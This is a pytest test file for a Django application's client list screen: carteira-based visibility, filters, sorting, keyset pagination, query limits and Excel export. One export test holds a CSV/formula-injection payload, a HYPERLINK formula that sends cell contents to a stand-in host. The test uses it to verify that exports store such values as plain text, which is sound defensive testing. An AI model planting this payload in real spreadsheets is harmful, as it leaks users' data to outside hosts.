"""Client list screen and its Excel export: visibility, filters, sort, keyset pages, queries."""

from __future__ import annotations

import datetime as dt
import io
import re
from html import unescape

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cadastro.models import (
    Cliente,
    Endereco,
    Municipio,
    SituacaoSCPC,
    StatusCliente,
)
from cadastro.views.lista import ClienteListaView
from contas.models import Parametro
from tests.factories import (
    ClienteFactory,
    EmailFactory,
    TelefoneFactory,
    UsuarioFactory,
)

pytestmark = pytest.mark.django_db

URL = "/clientes/"
URL_EXPORTAR = "/clientes/exportar/"


def _nomes(resp) -> list[str]:
    """Client names in the table body, in order."""
    corpo = resp.content.decode()
    tbody = corpo[corpo.index("<tbody") : corpo.index("</tbody>")]
    return [unescape(n) for n in re.findall(r'<a href="/clientes/\d+/">([^<]+)</a>', tbody)]


def _link(resp, rel: str) -> str | None:
    m = re.search(rf'rel="{rel}" href="([^"]+)"', resp.content.decode())
    return unescape(m.group(1)) if m else None


def _planilha(resp):
    conteudo = b"".join(resp.streaming_content)
    return load_workbook(io.BytesIO(conteudo)).active


def _endereco(cliente: Cliente, uf: str, cidade: str | None = None, principal: bool = True):
    municipio = Municipio.objects.filter(uf=uf, nome=cidade).first() if cidade else None
    return Endereco.objects.create(
        cliente=cliente,
        tipo="principal",
        logradouro="Rua A",
        uf=uf,
        municipio=municipio,
        principal=principal,
    )


def test_rotas_tem_os_nomes_do_contrato():
    assert reverse("cadastro:cliente-lista") == URL
    assert reverse("cadastro:cliente-exportar") == URL_EXPORTAR


# --- access --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "quem, ve_a, ve_b",
    [
        ("dono", True, False),
        ("colega", False, True),
        ("supervisor", True, False),
        ("sac", True, True),
        ("admin", True, True),
    ],
)
def test_lista_mostra_so_a_carteira_visivel(client, pessoas, quem, ve_a, ve_b):
    # given one client in each carteira
    ClienteFactory(nome="Cliente Da Carteira A", carteira=pessoas.a)
    ClienteFactory(nome="Cliente Da Carteira B", carteira=pessoas.b)
    client.force_login(pessoas.usuarios[quem])
    # when the user opens the list
    resp = client.get(URL)
    # then only the visible carteira's clients are listed
    assert resp.status_code == 200
    nomes = _nomes(resp)
    assert ("Cliente Da Carteira A" in nomes) is ve_a
    assert ("Cliente Da Carteira B" in nomes) is ve_b


def test_lista_exige_login_e_papel(client, pessoas):
    assert client.get(URL).status_code == 302
    client.force_login(UsuarioFactory(username="sem_papel"))
    assert client.get(URL).status_code == 403
    assert client.get(URL_EXPORTAR).status_code == 403


def test_carteiras_do_filtro_sao_so_as_visiveis(client, pessoas):
    # given a rep
    client.force_login(pessoas.usuarios["dono"])
    html = client.get(URL).content.decode()
    # then the carteira select offers only their own carteira
    assert "Carteira A" in html
    assert "Carteira B" not in html


def test_carteira_alheia_na_url_nao_vaza_clientes(client, pessoas):
    # given a client in B and a rep of A who forges ?carteira=<B>
    ClienteFactory(nome="Segredo Da Carteira B", carteira=pessoas.b)
    ClienteFactory(nome="Meu Cliente", carteira=pessoas.a)
    client.force_login(pessoas.usuarios["dono"])
    resp = client.get(URL, {"carteira": pessoas.b.pk})
    # then the filter is refused and nothing is listed
    assert resp.status_code == 200
    assert _nomes(resp) == []
    assert "Verifique os filtros" in resp.content.decode()
    assert "Segredo" not in resp.content.decode()


# --- filters -------------------------------------------------------------------------------


def test_filtro_nome_ignora_acento_e_caixa_e_olha_o_fantasia(client, pessoas):
    ClienteFactory(nome="João Conceição", carteira=pessoas.a)
    ClienteFactory(nome="Padaria Ltda", nome_fantasia="Pão Quente", carteira=pessoas.a)
    ClienteFactory(nome="Maria Souza", carteira=pessoas.a)
    client.force_login(pessoas.usuarios["dono"])
    assert _nomes(client.get(URL, {"nome": "JOAO conceicao"})) == ["João Conceição"]
    assert _nomes(client.get(URL, {"nome": "pao"})) == ["Padaria Ltda"]


@pytest.mark.parametrize("digitado", ["529.982.247-25", "52998224725", "529982247"])
def test_filtro_documento_com_ou_sem_mascara(client, pessoas, digitado):
    ClienteFactory(nome="Com CPF", documento="52998224725", carteira=pessoas.a)
    ClienteFactory(nome="Outro", carteira=pessoas.a)
    client.force_login(pessoas.usuarios["dono"])
    assert _nomes(client.get(URL, {"documento": digitado})) == ["Com CPF"]


def test_filtros_de_tipo_status_scpc_uf_cidade_email_e_periodo(client, pessoas):
    inativo = StatusCliente.objects.create(
        codigo="INAT", descricao="Inativo", considera_ativo=False
    )
    scpc = SituacaoSCPC.objects.create(codigo="NC", descricao="Nada consta")
    pj = ClienteFactory(juridica=True, nome="Empresa PJ", carteira=pessoas.a, situacao_scpc=scpc)
    pf = ClienteFactory(nome="Pessoa PF", carteira=pessoas.a, status=inativo)
    _endereco(pj, "SP", "São Paulo")
    _endereco(pf, "RJ", "Rio de Janeiro")
    _endereco(pf, "SP", "Campinas", principal=False)  # not the main address
    EmailFactory(cliente=pj)
    Cliente.objects.filter(pk=pf.pk).update(
        criado_em=timezone.make_aware(dt.datetime(2023, 1, 10, 23, 30))
    )
    client.force_login(pessoas.usuarios["dono"])

    def nomes(**filtros):
        return _nomes(client.get(URL, filtros))

    assert nomes(tipo_pessoa="J") == ["Empresa PJ"]
    assert nomes(status=inativo.pk) == ["Pessoa PF"]
    assert nomes(situacao_scpc=scpc.pk) == ["Empresa PJ"]
    assert nomes(uf="SP") == ["Empresa PJ"]
    assert nomes(cidade="sao paulo") == ["Empresa PJ"]
    assert nomes(tem_email="true") == ["Empresa PJ"]
    assert nomes(tem_email="false") == ["Pessoa PF"]
    assert nomes(criado_de="10/01/2023", criado_ate="10/01/2023") == ["Pessoa PF"]
    assert nomes(criado_de="11/01/2023") == ["Empresa PJ"]


def test_filtro_invalido_mantem_o_digitado_e_explica(client, pessoas):
    client.force_login(pessoas.usuarios["dono"])
    resp = client.get(URL, {"criado_de": "31/02/2024", "nome": "abc"})
    html = resp.content.decode()
    assert 'value="31/02/2024"' in html
    assert 'value="abc"' in html
    assert "Informe uma data válida" in html


# --- sort and pages ------------------------------------------------------------------------


def test_ordenacao_pelas_colunas_e_cabecalho_marcado(client, pessoas):
    for nome in ["Bia", "Ana", "Caio"]:
        ClienteFactory(nome=nome, carteira=pessoas.a)
    client.force_login(pessoas.usuarios["dono"])
    assert _nomes(client.get(URL)) == ["Ana", "Bia", "Caio"]
    resp = client.get(URL, {"ordenar": "-nome"})
    assert _nomes(resp) == ["Caio", "Bia", "Ana"]
    assert re.search(r'<th class="[^"]*desc[^"]*"', resp.content.decode())
    # an unknown or non-sortable column falls back to the default order
    assert _nomes(client.get(URL, {"ordenar": "telefone"})) == ["Ana", "Bia", "Caio"]
    assert _nomes(client.get(URL, {"ordenar": "observacoes"})) == ["Ana", "Bia", "Caio"]


@pytest.mark.parametrize("ordenar", ["nome", "-criado_em", "documento", "-carteira", "status"])
def test_paginas_pelos_links_sem_pular_nem_repetir(client, pessoas, ordenar):
    # given 23 visible clients with repeated names, some foreigners (no document)
    for i in range(23):
        extra = {"documento": None, "estrangeiro": True} if i % 6 == 0 else {}
        ClienteFactory(nome=f"Cliente {i % 4}", carteira=pessoas.a, **extra)
    ClienteFactory(nome="Invisível", carteira=pessoas.b)
    client.force_login(pessoas.usuarios["dono"])
    # when following "Próxima" from the first page
    resp = client.get(URL, {"por_pagina": 10, "ordenar": ordenar})
    assert "23 clientes" in resp.content.decode()
    vistos = []
    ids = []
    while True:
        vistos += _nomes(resp)
        ids += re.findall(r'<a href="/clientes/(\d+)/">', resp.content.decode())
        proxima = _link(resp, "next")
        if not proxima:
            break
        resp = client.get(URL + proxima)
    # then all 23 appear exactly once
    assert len(ids) == 23
    assert len(set(ids)) == 23
    assert "Invisível" not in vistos
    # and "Última" shows the final rows, "Primeira" the first ones again
    ultima = client.get(
        URL + _link(client.get(URL, {"por_pagina": 10, "ordenar": ordenar}), "last")
    )
    assert re.findall(r'<a href="/clientes/(\d+)/">', ultima.content.decode()) == ids[-10:]
    primeira = client.get(URL + _link(ultima, "first"))
    assert re.findall(r'<a href="/clientes/(\d+)/">', primeira.content.decode()) == ids[:10]


def test_contagem_limitada_mostra_mais_de(client, pessoas, monkeypatch):
    monkeypatch.setattr(ClienteListaView, "limite_contagem", 5)
    ClienteFactory.create_batch(7, carteira=pessoas.a)
    client.force_login(pessoas.usuarios["dono"])
    assert "mais de 5 clientes" in client.get(URL).content.decode()
    # a filtered list under the cap is counted exactly
    ClienteFactory(nome="Zé Único", carteira=pessoas.a)
    assert "1 cliente<" in client.get(URL, {"nome": "ze unico"}).content.decode()


def test_total_exato_abaixo_do_limite(client, pessoas):
    ClienteFactory.create_batch(3, carteira=pessoas.a)
    client.force_login(pessoas.usuarios["dono"])
    assert "3 clientes" in client.get(URL).content.decode()


def test_htmx_devolve_so_a_tabela_e_varia_por_hx_request(client, pessoas):
    ClienteFactory(nome="Ana", carteira=pessoas.a)
    client.force_login(pessoas.usuarios["dono"])
    resp = client.get(URL, {"nome": "ana"}, HTTP_HX_REQUEST="true")
    html = resp.content.decode()
    assert 'id="cliente-tabela"' in html
    assert 'id="filtros-cliente"' not in html
    assert "<html" not in html
    assert "HX-Request" in resp["Vary"]
    completa = client.get(URL)
    assert 'id="filtros-cliente"' in completa.content.decode()
    assert "HX-Request" in completa["Vary"]


def test_estado_vazio(client, pessoas):
    client.force_login(pessoas.usuarios["dono"])
    html = client.get(URL, {"nome": "ninguém"}).content.decode()
    assert "vazio-estado" in html
    assert "Nenhum cliente encontrado." in html
    assert "limpe os filtros" in html
    assert "Exportar Excel" not in html  # nothing to export


def test_botao_novo_cliente_so_para_quem_pode_criar(client, pessoas):
    client.force_login(pessoas.usuarios["dono"])
    assert reverse("cadastro:cliente-criar") in client.get(URL).content.decode()
    client.force_login(pessoas.usuarios["sac"])
    assert "Novo cliente" not in client.get(URL).content.decode()


@pytest.mark.parametrize("por_pagina", [10, 100])
@pytest.mark.parametrize("ordenar", ["nome", "-documento"])
def test_lista_nao_cresce_em_consultas(
    client, pessoas, django_assert_max_num_queries, por_pagina, ordenar
):
    # given 120 clients, each with a phone and a main address
    for cliente in ClienteFactory.create_batch(120, carteira=pessoas.a):
        TelefoneFactory(cliente=cliente, principal=True)
        _endereco(cliente, "SP", "Campinas")
    client.force_login(pessoas.usuarios["dono"])
    # when a full page is rendered (filters, count, table, pagination)
    with django_assert_max_num_queries(10):
        resp = client.get(URL, {"por_pagina": por_pagina, "ordenar": ordenar})
    # then the rows are all there and the page stays within 10 queries
    assert resp.status_code == 200
    assert len(re.findall(r'<a href="/clientes/\d+/">', resp.content.decode())) == por_pagina
    assert "Campinas/SP" in resp.content.decode()


# --- export --------------------------------------------------------------------------------


def test_exportacao_respeita_filtros_ordem_e_visibilidade(client, pessoas):
    # given clients in both carteiras
    for nome in ["Beto Alves", "Ana Alves", "Caio Alves", "Ana Fora"]:
        ClienteFactory(nome=nome, carteira=pessoas.a)
    ClienteFactory(nome="Alves Da Outra Carteira", carteira=pessoas.b)
    client.force_login(pessoas.usuarios["dono"])
    # when the rep exports the list filtered by name, sorted descending
    resp = client.get(URL_EXPORTAR, {"nome": "alves", "ordenar": "-nome", "cursor": "x"})
    # then the file has exactly the screen's rows in the screen's order
    assert resp.status_code == 200
    assert resp["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in resp["Content-Disposition"]
    ws = _planilha(resp)
    linhas = list(ws.iter_rows(values_only=True))
    assert linhas[0][1] == "Nome / razão social"
    assert [r[1] for r in linhas[1:]] == ["Caio Alves", "Beto Alves", "Ana Alves"]


def test_exportacao_tem_celulas_tipadas_e_sem_formula(client, pessoas):
    hostil = '=HYPERLINK("http://mal.example/?x="&A1,"Clique")'
    cliente = ClienteFactory(
        nome=hostil, carteira=pessoas.a, nome_fantasia="+5511999", limite_credito="1234.56"
    )
    TelefoneFactory(cliente=cliente, ddd="11", numero="987654321", principal=True)
    EmailFactory(cliente=cliente, valor="@soma(1;2)@x.com")
    client.force_login(pessoas.usuarios["dono"])
    ws = _planilha(client.get(URL_EXPORTAR))
    cabecalho = [c.value for c in ws[1]]
    linha = dict(zip(cabecalho, ws[2], strict=True))
    # the hostile name is stored as text (never a formula), exactly as typed
    assert linha["Nome / razão social"].value == hostil
    assert linha["Nome / razão social"].data_type == "s"
    assert linha["Nome fantasia"].data_type == "s"
    assert linha["E-mail"].data_type == "s"
    # numbers, money and dates are typed cells
    assert linha["Código"].value == cliente.pk
    assert linha["Limite de crédito"].data_type == "n"
    assert float(linha["Limite de crédito"].value) == pytest.approx(1234.56)
    assert isinstance(linha["Criado em"].value, dt.datetime)
    assert linha["CPF/CNPJ"].value == cliente.documento_formatado
    assert linha["Telefone"].value == "(11) 98765-4321"


@pytest.mark.parametrize("quem, status", [("dono", 200), ("colega", 200), ("sac", 403)])
def test_exportacao_por_papel_nunca_traz_carteira_alheia(client, pessoas, quem, status):
    ClienteFactory(nome="Cliente A", carteira=pessoas.a)
    client.force_login(pessoas.usuarios[quem])
    resp = client.get(URL_EXPORTAR)
    assert resp.status_code == status
    if status == 200:
        nomes = [r[1] for r in list(_planilha(resp).iter_rows(values_only=True))[1:]]
        assert nomes == (["Cliente A"] if quem == "dono" else [])


def test_exportacao_limitada_pelo_parametro_avisa(client, pessoas):
    dono = pessoas.usuarios["dono"]
    Parametro.objects.create(empresa=dono.empresa, chave="exportacao_max_linhas", valor=2)
    for nome in ["Ana", "Bia", "Caio"]:
        ClienteFactory(nome=nome, carteira=pessoas.a)
    client.force_login(dono)
    resp = client.get(URL_EXPORTAR)
    nomes = [r[1] for r in list(_planilha(resp).iter_rows(values_only=True))[1:]]
    assert nomes == ["Ana", "Bia"]
    assert resp["X-Exportacao-Limitada"] == "1"
    assert "primeiras_2" in resp["Content-Disposition"]
    aviso = client.get(URL).content.decode()
    assert "limitada às primeiras 2 linhas" in aviso


def test_exportacao_com_filtro_invalido_volta_para_a_lista(client, pessoas):
    client.force_login(pessoas.usuarios["dono"])
    resp = client.get(URL_EXPORTAR, {"criado_de": "99/99/9999"})
    assert resp.status_code == 302
    assert resp["Location"].startswith(URL + "?")


def test_link_de_exportar_leva_os_filtros_sem_o_cursor(client, pessoas):
    for nome in ["Ana", "Bia", "Caio"]:
        ClienteFactory(nome=nome, carteira=pessoas.a)
    client.force_login(pessoas.usuarios["dono"])
    html = unescape(
        client.get(URL, {"nome": "a", "ordenar": "-nome", "cursor": "x"}).content.decode()
    )
    link = re.search(r'href="(/clientes/exportar/[^"]*)"', html).group(1)
    assert "nome=a" in link and "ordenar=-nome" in link and "cursor" not in link
